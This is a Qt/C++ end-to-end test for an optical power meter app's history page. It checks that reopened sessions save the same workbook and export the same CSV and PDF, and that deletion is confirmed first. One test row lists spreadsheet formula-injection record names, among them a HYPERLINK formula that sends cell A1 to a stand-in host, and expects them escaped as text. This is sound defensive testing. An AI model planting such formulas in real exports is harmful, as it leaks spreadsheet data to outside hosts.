// The history page over a simulated meter: a download (or a live run) saved,
// the meter gone, the stored session opened from the history and saved again
// gives the same workbook, and the same CSV as the page it came from; a
// session is deleted only after "Yes".

#include "e2esupport.h"

#include "../report/workbookdump.h"
#include "link/requestledger.h"
#include "widgets/chartform.h"

#include <QProcess>
#include <QTableWidget>
#include <QTemporaryDir>
#include <algorithm>

using namespace e2e;

class TestHistoryPage : public QObject
{
    Q_OBJECT

private:
    std::unique_ptr<MainWindow> window;
    testsupport::MeterSim sim;
    QTemporaryDir reports;

    bool download(const QStringList &meter, const char *pageButton)
    {
        if (!sim.start(meter))
            return false;
        testsupport::setSerialPorts({sim.linkPath()});
        if (!connectWindow(window.get()))
            return false;
        button(window.get(), pageButton)->click();
        button(window.get(), "downloadBtn")->click();
        return QTest::qWaitFor([this]() { return !window->isImporting(); }, 30000);
    }

    // Saves the page shown and reads the one workbook back.
    QJsonObject save()
    {
        QDir dir(reports.path());
        for (const QString &old : dir.entryList({"*.xlsx"}))
            dir.remove(old);
        QString message;
        answerMessage("yesBtn", &message);
        button(window.get(), "saveBtn")->click();
        if (!QTest::qWaitFor([&message]() { return !message.isEmpty(); }, 10000))
            return {};
        const QStringList files = dir.entryList({"*.xlsx"});
        if (files.size() != 1)
            return {};
        const WorkbookDump dump = WorkbookDump::read(dir.filePath(files.first()));
        return dump.ok() ? dump.root : QJsonObject();
    }

    // Runs an export that writes one CSV file and reads that file back (the
    // file is removed, so the next export of the same second cannot mix in).
    QList<QStringList> exportCsv(const std::function<void()> &start)
    {
        QDir dir(reports.path());
        QString message;
        answerMessage("yesBtn", &message);
        start();
        if (!QTest::qWaitFor([&message]() { return !message.isEmpty(); }, 10000)
            || message != QCoreApplication::translate("RecordPage", "Report exported"))
            return {};
        const QStringList files = dir.entryList({"*.csv"});
        if (files.size() != 1)
            return {};
        QString output;
        const int code = testsupport::runPython(QStringLiteral("cli/read_csv.py"), {dir.filePath(files.first())}, &output);
        dir.remove(files.first());
        if (code != 0)
            return {};
        QList<QStringList> rows;
        for (const auto &row : QJsonDocument::fromJson(output.toUtf8()).object().value("rows").toArray()) {
            QStringList fields;
            for (const auto &field : row.toArray())
                fields << field.toString();
            rows << fields;
        }
        return rows;
    }

    // "Export CSV…" (or another entry) in the window's menu.
    void exportFromMenu(const char *entryName = "exportCsvBtn")
    {
        button(window.get(), "menuBtn")->click();
        QPushButton *entry = nullptr;
        if (QTest::qWaitFor([&]() { return (entry = button(window.get(), entryName)) && entry->isVisible(); },
                            5000))
            entry->click();
    }

    // Runs an export that writes one PDF and gives its text but for the
    // moments of the export and of the download's start (the page and the
    // history take the latter from two clocks a moment apart).
    QStringList exportPdfText(const std::function<void()> &start)
    {
        QDir dir(reports.path());
        QString message;
        answerMessage("yesBtn", &message);
        start();
        if (!QTest::qWaitFor([&message]() { return !message.isEmpty(); }, 10000)
            || message != QCoreApplication::translate("RecordPage", "Report exported"))
            return {};
        const QStringList files = dir.entryList({"*.pdf"});
        if (files.size() != 1)
            return {};
        QProcess text;
        text.start("pdftotext", {"-enc", "UTF-8", dir.filePath(files.first()), "-"});
        if (!text.waitForFinished(30000) || text.exitCode() != 0)
            return {};
        dir.remove(files.first());
        QStringList lines = QString::fromUtf8(text.readAllStandardOutput()).split('\n');
        lines.erase(std::remove_if(lines.begin(), lines.end(),
                                   [](const QString &line) {
                                       return line.startsWith("Report made:") || line.startsWith("Downloaded:");
                                   }),
                    lines.end());
        return lines;
    }

    QTableWidget *sessions() { return widget<QTableWidget>(window.get(), "historyTable"); }

private slots:
    void initTestCase()
    {
        prepareProcess();
        QVERIFY(reports.isValid());
        MainWindow::setDirectoryChooser([this]() { return reports.path(); });
    }

    void cleanupTestCase() { MainWindow::setDirectoryChooser(nullptr); }

    void init()
    {
        window = std::make_unique<MainWindow>();
        window->show();
    }

    void cleanup()
    {
        if (window && isConnected(window.get()) && !window->isImporting())
            button(window.get(), "connectBtn")->click();
        window.reset();
        sim.stop();
        QTest::qWait(50);
    }

    void openedSessionSavesTheSameWorkbook_data()
    {
        QTest::addColumn<QStringList>("meter");
        QTest::addColumn<QString>("pageButton");
        QTest::addColumn<QString>("page");
        QTest::newRow("single-wave") << QStringList{"--kind", "5"} << "opmBtn" << "opmTable";
        QTest::newRow("multi-wave") << QStringList{"--kind", "5"} << "multiWaveOpmBtn" << "multiWaveOpmTable";
        QTest::newRow("partial-wave") << QStringList{"--kind", "9"} << "partialOpmBtn" << "PartialOpmWaveTable";
        QTest::newRow("PON") << QStringList{"--kind", "2", "--range", "1"} << "ponOpmBtn" << "ponOpmTable";
        QTest::newRow("XG-PON") << QStringList{"--kind", "3", "--range", "0"} << "xgPonBtn" << "xGPonTable";
    }

    void openedSessionSavesTheSameWorkbook()
    {
        QFETCH(QStringList, meter);
        QFETCH(QString, pageButton);
        QFETCH(QString, page);
        QVERIFY(download(meter + QStringList{"--records", "23"}, pageButton.toLatin1().constData()));
        const QJsonObject fresh = save();
        QVERIFY(!fresh.isEmpty());

        // The meter goes: the history stays at hand.
        button(window.get(), "connectBtn")->click();
        QTRY_VERIFY(!isConnected(window.get()));
        sim.stop();
        QTRY_VERIFY(!button(window.get(), pageButton.toLatin1().constData())->isEnabled());
        QVERIFY(button(window.get(), "historyBtn")->isEnabled());
        button(window.get(), "historyBtn")->click();
        QTRY_VERIFY(widget(window.get(), "historyPage")->isVisible());
        QVERIFY(sessions()->rowCount() >= 1);
        QCOMPARE(sessions()->item(0, 3)->text(), QStringLiteral("23"));

        sessions()->setCurrentCell(0, 0);
        button(window.get(), "historyOpenBtn")->click();
        QTRY_VERIFY(widget(window.get(), page.toLatin1().constData())->isVisible());
        QVERIFY(!widget(window.get(), "historyPage")->isVisible());
        QVERIFY(!button(window.get(), "downloadBtn")->isVisible());
        QVERIFY(button(window.get(), "saveBtn")->isEnabled());
        const QJsonObject again = save();
        QVERIFY(!again.isEmpty());
        QCOMPARE(again, fresh);
    }

    // A live run comes back as the curve, read-only, with the meter's powers
    // (not the rounded texts), and saves the workbook the run saved.
    void liveRunOpensAsTheCurve()
    {
        QVERIFY(sim.start({"--kind", "5"}));
        testsupport::setSerialPorts({sim.linkPath()});
        QVERIFY(connectWindow(window.get()));
        button(window.get(), "chartBtn")->click();
        auto *chart = widget<ChartForm>(window.get(), "chart");
        QPushButton *play = button(chart, "playBtn");
        play->click();
        QTRY_VERIFY_WITH_TIMEOUT(chart->sampleCount() >= 4, 20000);
        play->click(); // a pause
        QVERIFY(!window->isImporting());
        const int samples = chart->sampleCount();
        const auto powers = [chart]() {
            QStringList list;
            for (const RealTimeOpmValue &reading : chart->storedReadings())
                list << QString::number(double(reading.powerValue), 'g', 9);
            return list;
        };
        const QStringList run = powers();
        const QJsonObject fresh = save();
        QVERIFY(!fresh.isEmpty());

        button(window.get(), "connectBtn")->click(); // the run ends with the meter
        QTRY_VERIFY(!isConnected(window.get()));
        sim.stop();
        button(window.get(), "historyBtn")->click();
        QTRY_VERIFY(widget(window.get(), "historyPage")->isVisible());
        QCOMPARE(sessions()->item(0, 3)->text(), QString::number(samples));
        sessions()->setCurrentCell(0, 0);
        button(window.get(), "historyOpenBtn")->click();
        QTRY_VERIFY(chart->isVisible());
        QCOMPARE(chart->sampleCount(), samples);
        QCOMPARE(powers(), run);
        QVERIFY(!play->isEnabled());
        QVERIFY(!button(chart, "cleanBtn")->isEnabled());
        QVERIFY(!widget(window.get(), "realTimeParamWidget")->isVisible());
        QCOMPARE(save(), fresh);
    }

    // What a page shows and the history session it came from export the
    // same CSV and the same PDF report (a live run: the same arrival times,
    // the meter's reference and watts, statistics of the meter's powers).
    // Record names a spreadsheet would run as formulas are written as text.
    void pageAndSessionExportTheSameCsv_data()
    {
        QTest::addColumn<QStringList>("meter");
        QTest::addColumn<QString>("pageButton");
        QTest::addColumn<QStringList>("names"); // the name column, when checked
        QTest::newRow("multi-wave") << QStringList{"--kind", "5", "--records", "6"} << "multiWaveOpmBtn"
                                    << QStringList{};
        QTest::newRow("PON") << QStringList{"--kind", "2", "--range", "1", "--records", "6"} << "ponOpmBtn"
                             << QStringList{};
        QTest::newRow("live") << QStringList{"--kind", "5"} << "chartBtn" << QStringList{};
        QTest::newRow("formula names")
            << QStringList{"--scenario", LUMISK_SOURCE_DIR "/tests/cli/formula_names.json"} << "opmBtn"
            << QStringList{"'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'@SUM(1+1)", "'+1+2", "'-12.5",
                           "'\tcmd", "'\r=1+1", "A1=B1"};
    }
    void pageAndSessionExportTheSameCsv()
    {
        QFETCH(QStringList, meter);
        QFETCH(QString, pageButton);
        QFETCH(QStringList, names);
        if (pageButton == QLatin1String("chartBtn")) {
            QVERIFY(sim.start(meter));
            testsupport::setSerialPorts({sim.linkPath()});
            QVERIFY(connectWindow(window.get()));
            button(window.get(), "chartBtn")->click();
            auto *chart = widget<ChartForm>(window.get(), "chart");
            button(chart, "playBtn")->click();
            QTRY_VERIFY_WITH_TIMEOUT(chart->sampleCount() >= 3, 20000);
            button(chart, "playBtn")->click(); // a pause
        } else {
            QVERIFY(download(meter, pageButton.toLatin1().constData()));
        }
        const QList<QStringList> shown = exportCsv([this]() { exportFromMenu(); });
        QVERIFY(shown.size() > 3);
        if (!names.isEmpty()) {
            QStringList written;
            for (int row = 1; row < shown.size(); ++row)
                written << shown.at(row).value(int(shown.first().indexOf("name")));
            QCOMPARE(written, names);
        }
        const QStringList shownPdf = exportPdfText([this]() { exportFromMenu("exportPdfBtn"); });
        QVERIFY(shownPdf.size() > 3);

        answerMessage("noBtn"); // not saved first
        button(window.get(), "historyBtn")->click();
        QTRY_VERIFY(widget(window.get(), "historyPage")->isVisible());
        sessions()->setCurrentCell(0, 0);
        const QList<QStringList> stored
            = exportCsv([this]() { button(window.get(), "historyExportCsvBtn")->click(); });
        const auto lines = [](const QList<QStringList> &rows) {
            QStringList joined;
            for (const QStringList &row : rows)
                joined << row.join('|');
            return joined;
        };
        QCOMPARE(lines(stored), lines(shown));
        QCOMPARE(exportPdfText([this]() { button(window.get(), "historyExportPdfBtn")->click(); }), shownPdf);
    }

    void deleteAsksFirst()
    {
        QVERIFY(download({"--kind", "5", "--records", "4"}, "opmBtn"));
        // Leaving the unsaved download asks to save it first.
        QString saveAsked;
        answerMessage("noBtn", &saveAsked);
        button(window.get(), "historyBtn")->click();
        QTRY_COMPARE(saveAsked, MainWindow::tr("Data has not been saved.\nDo you want to save the data first?"));
        QTRY_VERIFY(widget(window.get(), "historyPage")->isVisible());
        const int before = sessions()->rowCount();
        QVERIFY(before >= 1);
        sessions()->setCurrentCell(0, 0);

        QString asked;
        answerMessage("noBtn", &asked);
        button(window.get(), "historyDeleteBtn")->click();
        QTRY_VERIFY(!asked.isEmpty());
        QCOMPARE(sessions()->rowCount(), before);

        sessions()->setCurrentCell(0, 0);
        answerMessage("yesBtn");
        button(window.get(), "historyDeleteBtn")->click();
        QTRY_COMPARE(sessions()->rowCount(), before - 1);

        // The meter going leaves the history page as it is.
        button(window.get(), "connectBtn")->click();
        QTRY_VERIFY(!isConnected(window.get()));
        QVERIFY(widget(window.get(), "historyPage")->isVisible());
        QVERIFY(button(window.get(), "historyBtn")->isChecked());
        QVERIFY(button(window.get(), "historyBtn")->isEnabled());
    }
};

LUMISK_TEST(TestHistoryPage)
#include "tst_history.moc"
